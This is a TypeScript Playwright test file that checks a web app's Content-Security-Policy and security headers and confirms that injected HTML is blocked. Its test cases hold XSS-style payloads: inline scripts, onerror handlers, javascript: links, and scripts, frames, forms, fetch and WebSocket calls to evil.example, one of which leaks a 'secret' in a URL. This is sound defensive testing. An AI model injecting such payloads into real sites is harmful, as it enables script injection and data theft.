/** The Content-Security-Policy in a real browser: no page violates it, and it stops code that was injected into a page's HTML. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { labSetUpTimeoutMs } from '../server/testing/lab';
import { launchBrowser } from '../server/testing/browser';
import { startServer, type TestServer } from '../server/testing/server';

declare global {
  interface Window {
    /** The directives that the page saw violated. */
    violations: string[];
    /** Injected code that ran. */
    ran?: string[];
  }
}

let server: TestServer;
let browser: Browser;
let page: Page;
let browserErrors: string[];

beforeAll(async () => {
  // Only pages: the server starts no pair.
  server = await startServer({ environment: { LAB_POOL_SIZE: '0' } });
  browser = await launchBrowser();
}, labSetUpTimeoutMs);

afterAll(async () => {
  await browser.close();
  await server.remove();
});

beforeEach(async () => {
  page = await (await browser.newContext()).newPage();
  browserErrors = [];
  page.on('pageerror', (error) => browserErrors.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') browserErrors.push(message.text());
  });
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
});

afterEach(async () => {
  await page.context().close();
});

const violations = () => page.evaluate(() => window.violations);

/** Waits until React has hydrated the page, which shows that its scripts may run. */
async function untilInteractive(): Promise<void> {
  await page.waitForFunction(() => Object.keys(document.body).some((key) => key.startsWith('__react')));
}

const lessonPath = '/lessons/live-migration';
const pages: [path: string, status: number][] = [
  ['/', 200],
  [lessonPath, 200],
  // Rendered on request, unlike all the others.
  ['/watch/there-is-no-such-grant', 200],
  ['/continue/there-is-no-such-key', 200],
  ['/lessons/there-is-none', 404],
  ['/there/is/none', 404],
];

test.each(pages)('%s runs and violates no directive of its policy', async (path, status) => {
  const response = await page.goto(`${server.url}${path}`);
  expect(response?.status()).toBe(status);
  await untilInteractive();
  // Browsers log a refused request as a console error.
  expect(browserErrors.filter((text) => !/the server responded with a status of 40[34]/.test(text))).toEqual(
    [],
  );
  expect(await violations()).toEqual([]);
});

test('navigating between pages violates no directive', async () => {
  await page.goto(server.url);
  await untilInteractive();
  await page.locator(`a[href="${lessonPath}"]`).first().click();
  await page.waitForURL(`**${lessonPath}`);
  await page.getByRole('button', { name: /start/i }).first().waitFor();
  await page.goBack();
  await page.locator(`a[href="${lessonPath}"]`).first().waitFor();
  expect(browserErrors).toEqual([]);
  expect(await violations()).toEqual([]);
});

describe('headers', () => {
  const ofPage = async (path: string) => (await fetch(`${server.url}${path}`)).headers;

  test.each([...pages.map(([path]) => path), '/theme.js', '/icon.svg', '/api/lab', '/api/none'])(
    '%s has the headers of every answer',
    async (path) => {
      const headers = await ofPage(path);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('same-origin');
      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
      expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
      expect(headers.get('permissions-policy')).toContain('camera=()');
      expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
      expect(headers.get('x-powered-by')).toBeNull();
    },
  );

  test('of a page allow no scripts of other origins, no eval, and inline scripts only by hash or nonce', async () => {
    const policy = (await ofPage(lessonPath)).get('content-security-policy') ?? '';
    const directives = new Map(
      policy.split('; ').map((directive): [string, string[]] => {
        const [name = '', ...sources] = directive.split(' ');
        return [name, sources];
      }),
    );
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    const [self, nonce, ...hashes] = directives.get('script-src') ?? [];
    expect(self).toBe("'self'");
    expect(nonce).toMatch(/^'nonce-[\w+/]{22}=='$/);
    expect(hashes.length).toBeGreaterThan(0);
    for (const hash of hashes) expect(hash).toMatch(/^'sha256-[\w+/]{43}='$/);
  });

  test('have a new nonce each time', async () => {
    const nonce = async () =>
      /'nonce-([^']+)'/.exec((await ofPage('/')).get('content-security-policy') ?? '')?.[1];
    expect(await nonce()).not.toBe(await nonce());
  });
});

describe('code injected into a page’s HTML', () => {
  /** Opens a page with injected HTML, under the headers that the server sent. */
  async function openWith(injected: string): Promise<void> {
    await page.route(`${server.url}${lessonPath}`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('<body>', `<body>${injected}`);
      expect(body).toContain(injected);
      await route.fulfill({ response, body });
    });
    await page.goto(`${server.url}${lessonPath}`);
    await page.getByRole('button', { name: /start/i }).first().waitFor();
  }
  const run = "(window.ran ??= []).push('it ran')";

  test.each([
    ['an inline script', `<script>${run}</script>`, 'script-src-elem inline'],
    [
      'an inline script with an invented nonce',
      `<script nonce="AAAA">${run}</script>`,
      'script-src-elem inline',
    ],
    ['an event handler', `<img alt="" src="/none" onerror="${run}">`, 'script-src-attr inline'],
    [
      'a script of another site',
      '<script src="https://evil.example/x.js"></script>',
      'script-src-elem https://evil.example/x.js',
    ],
    [
      'a script in a data URL',
      `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
      'script-src-elem data',
    ],
    [
      'a frame with a script in it',
      `<iframe srcdoc="<script>parent.ran = ['it ran']</script>"></iframe>`,
      "Executing inline script violates the following Content Security Policy directive 'script-src",
    ],
    [
      'a frame of another site',
      '<iframe src="https://evil.example/"></iframe>',
      'frame-src https://evil.example',
    ],
    ['an object', '<object data="/icon.svg"></object>', 'object-src'],
    ['another base URL', '<base href="https://evil.example/">', 'base-uri https://evil.example/'],
    [
      'a picture that leaks to another site',
      '<img alt="" src="https://evil.example/?secret">',
      'img-src https://evil.example/?secret',
    ],
    [
      'a style sheet of another site',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      'style-src-elem https://evil.example/x.css',
    ],
  ])('%s does nothing', async (_, injected, violated) => {
    await openWith(injected);
    // A frame's violations belong to its own document, but the console has them all.
    await expect.poll(async () => [...(await violations()), ...browserErrors].join('\n')).toContain(violated);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
  });

  test.each([
    ['a link', `<a id="injected" href="javascript:${run}">x</a>`],
    ['a form', '<form action="https://evil.example/" method="post"><button id="injected">x</button></form>'],
  ])('%s that is clicked does nothing', async (_, injected) => {
    await openWith(injected);
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#injected')?.click();
    });
    await expect.poll(violations).toHaveLength(1);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
    expect(new URL(page.url()).pathname).toBe(lessonPath);
  });

  test('text cannot become code, and nothing goes to other servers', async () => {
    await openWith('<p></p>');
    const failed = await page.evaluate(
      async (port) => {
        const attempts: (() => unknown)[] = [
          () =>
            // In a task of the page, because code that a debugger evaluates may use eval.
            new Promise((allowed, refused) => {
              setTimeout(() => {
                try {
                  // eslint-disable-next-line @typescript-eslint/no-implied-eval
                  allowed(new Function('return 1'));
                } catch (error) {
                  refused(new Error('refused', { cause: error }));
                }
              });
            }),
          () => fetch('https://evil.example/'),
          () => fetch(`http://localhost:${port}/`),
          () =>
            new Promise((opened, refused) => {
              const socket = new WebSocket('wss://evil.example/');
              socket.onopen = opened;
              socket.onerror = refused;
            }),
        ];
        const results = await Promise.allSettled(attempts.map((attempt) => Promise.resolve().then(attempt)));
        return results.filter(({ status }) => status === 'rejected').length;
      },
      Number(new URL(server.url).port) + 1,
    );
    expect(failed).toBe(4);
    expect((await violations()).map((violation) => violation.replace(/:\d+/, '')).toSorted()).toEqual([
      'connect-src http://localhost/',
      'connect-src https://evil.example/',
      'connect-src wss://evil.example/',
      'script-src eval',
    ]);
  });
});

test('no page of another origin can frame ours', async () => {
  const other = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe src="${server.url}"></iframe>`);
  });
  other.listen(0, '127.0.0.1');
  try {
    await expect.poll(() => other.listening).toBe(true);
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}`);
    await expect.poll(() => browserErrors.join('\n')).toContain('frame-ancestors');
    expect(page.frames().some((frame) => frame.url().startsWith(server.url))).toBe(false);
  } finally {
    other.close();
    other.closeAllConnections();
  }
});
